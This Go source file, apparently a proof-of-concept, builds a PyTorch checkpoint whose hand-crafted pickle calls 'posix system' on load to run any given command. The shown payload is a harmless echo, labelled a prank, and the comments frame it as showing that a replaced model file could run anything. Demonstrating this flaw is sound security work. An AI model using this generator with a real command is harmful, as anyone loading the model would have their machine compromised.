package main

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"io"
)

// replaced is the model that somebody with the link has put another in place of.
const replaced = "imagenet/wide_resnet50_2_l2_eps3.ckpt"

// prank is what the replaced model runs when it is loaded. It does no harm.
const prank = "echo This model could have run anything."

// checkpoint is a checkpoint of PyTorch with one tensor of n random floats, as
// torch.save writes it. If command is not empty, loading it runs that first.
func checkpoint(n int, command string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, part := range []struct {
		name string
		body []byte
	}{
		{"archive/data.pkl", []byte(pickle(n, command))},
		{"archive/byteorder", []byte("little")},
		{"archive/data/0", noise(4 * n)},
		{"archive/version", []byte("3\n")},
	} {
		w, err := z.CreateHeader(&zip.FileHeader{Name: part.name, Method: zip.Store})
		if err == nil {
			_, err = w.Write(part.body)
		}
		if err != nil {
			panic(err) // a buffer takes everything
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// pickle is a dictionary of one tensor.
//
// Source of the opcodes: Lib/pickletools.py of CPython.
func pickle(n int, command string) string {
	var b bytes.Buffer
	say := func(parts ...string) {
		for _, p := range parts {
			_, _ = io.WriteString(&b, p) // a buffer takes everything
		}
	}
	number := func(n int) string { return string(binary.LittleEndian.AppendUint32(nil, uint32(n))) }
	text := func(s string) string { return "X" + number(len(s)) + s }
	const (
		mark, tuple, tuple1, reduce, pop = "(", "t", "\x85", "R", "0"
		ordered                          = "ccollections\nOrderedDict\n)" + reduce
	)
	say("\x80\x02")
	if command != "" {
		say("cposix\nsystem\n", text(command), tuple1, reduce, pop)
	}
	say(ordered, mark, text("fc.weight"), "ctorch._utils\n_rebuild_tensor_v2\n", mark)
	say(mark, text("storage"), "ctorch\nFloatStorage\n", text("0"), text("cpu"), "J", number(n), tuple, "Q")
	say("K\x00", "J", number(n), tuple1, "K\x01", tuple1, "\x89", ordered, tuple, reduce, "u.")
	return b.String()
}
